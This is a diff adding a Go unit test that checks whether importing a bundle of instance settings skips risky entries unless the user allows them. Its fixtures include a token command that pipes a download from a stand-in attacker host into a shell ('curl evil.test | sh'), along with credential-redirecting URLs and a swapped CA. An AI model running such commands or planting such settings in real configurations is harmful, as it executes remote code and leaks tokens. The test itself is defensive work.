@@ -0,0 +1,80 @@
+package config
+
+import "testing"
+
+func TestImportSkipsRiskyInstancesUnlessAllowed(t *testing.T) {
+	isolate(t)
+	cfg := &Config{Instances: []Instance{
+		{Name: "prod", FQDN: "https://prod.test", Token: "secret"},
+		{Name: "open", FQDN: "https://open.test"},
+		{Name: "tls", FQDN: "https://tls.test", Token: "secret"},
+		{Name: "ca", FQDN: "https://ca.test", Token: "secret"},
+		{Name: "mtls", FQDN: "https://mtls.test", Token: "secret"},
+		{Name: "path", FQDN: "https://path.test", Token: "secret"},
+		{Name: "headers", FQDN: "https://headers.test", Token: "secret"},
+		{Name: "access", FQDN: "https://access.test", Headers: map[string]string{"CF-Access-Client-Secret": "s"}},
+		{Name: "rotated", FQDN: "https://rotated.test", Token: "old"},
+	}}
+	bundle := &Bundle{Version: BundleVersion, Instances: []Instance{
+		{Name: "cmd", FQDN: "https://cmd.test", TokenCommand: "curl evil.test | sh"},
+		{Name: "prod", FQDN: "https://evil.test"},
+		{Name: "open", FQDN: "https://elsewhere.test"},
+		{Name: "new", FQDN: "https://new.test"},
+		{Name: "tls", FQDN: "https://tls.test", InsecureSkipVerify: true},
+		{Name: "ca", FQDN: "https://ca.test", CACert: "/tmp/evil-ca.pem"},
+		{Name: "mtls", FQDN: "https://mtls.test", ClientCert: "/tmp/cert.pem", ClientKey: "/tmp/key.pem"},
+		{Name: "path", FQDN: "https://path.test", APIPath: "/evil"},
+		{Name: "headers", FQDN: "https://headers.test", Headers: map[string]string{"Host": "evil.test"}},
+		// Local headers are kept and sent even when the bundle brings a token
+		{Name: "access", FQDN: "https://evil.test", Token: "imported"},
+		// A bundle bringing its own token may point it anywhere
+		{Name: "rotated", FQDN: "https://elsewhere.test", Token: "new", InsecureSkipVerify: true},
+	}}
+
+	var asked []string
+	results, err := cfg.ImportInstances(bundle, true, func(result ImportResult) bool {
+		asked = append(asked, result.Name)
+		return false
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	want := map[string]string{"cmd": ImportSkipped, "prod": ImportSkipped, "open": ImportUpdated, "new": ImportAdded,
+		"tls": ImportSkipped, "ca": ImportSkipped, "mtls": ImportSkipped, "path": ImportSkipped, "headers": ImportSkipped,
+		"access": ImportSkipped, "rotated": ImportUpdated}
+	for _, result := range results {
+		if result.Action != want[result.Name] {
+			t.Errorf("%s: %s, want %s (risks %q)", result.Name, result.Action, want[result.Name], result.Risks)
+		}
+	}
+	if len(asked) != 8 {
+		t.Errorf("asked about %q, want the skipped instances", asked)
+	}
+	if cfg.GetInstanceByName("cmd") != nil {
+		t.Errorf("instance with a token command was imported")
+	}
+	if prod := cfg.GetInstanceByName("prod"); prod.FQDN != "https://prod.test" || prod.Token != "secret" {
+		t.Errorf("prod was changed to %+v", prod)
+	}
+	if tls := cfg.GetInstanceByName("tls"); tls.InsecureSkipVerify {
+		t.Errorf("TLS verification was turned off for a local token")
+	}
+	if open := cfg.GetInstanceByName("open"); open.FQDN != "https://elsewhere.test" {
+		t.Errorf("instance without credentials was not updated: %+v", open)
+	}
+
+	// Allowed, the token command and the new URL are imported
+	if _, err := cfg.ImportInstances(bundle, true, func(ImportResult) bool { return true }); err != nil {
+		t.Fatal(err)
+	}
+	if instance := cfg.GetInstanceByName("cmd"); instance == nil || instance.TokenCommand != "curl evil.test | sh" {
+		t.Errorf("allowed token command was not imported: %+v", instance)
+	}
+	if prod := cfg.GetInstanceByName("prod"); prod.FQDN != "https://evil.test" {
+		t.Errorf("allowed URL change was not imported: %+v", prod)
+	}
+	if ca := cfg.GetInstanceByName("ca"); ca.CACert != "/tmp/evil-ca.pem" {
+		t.Errorf("allowed CA change was not imported: %+v", ca)
+	}
+}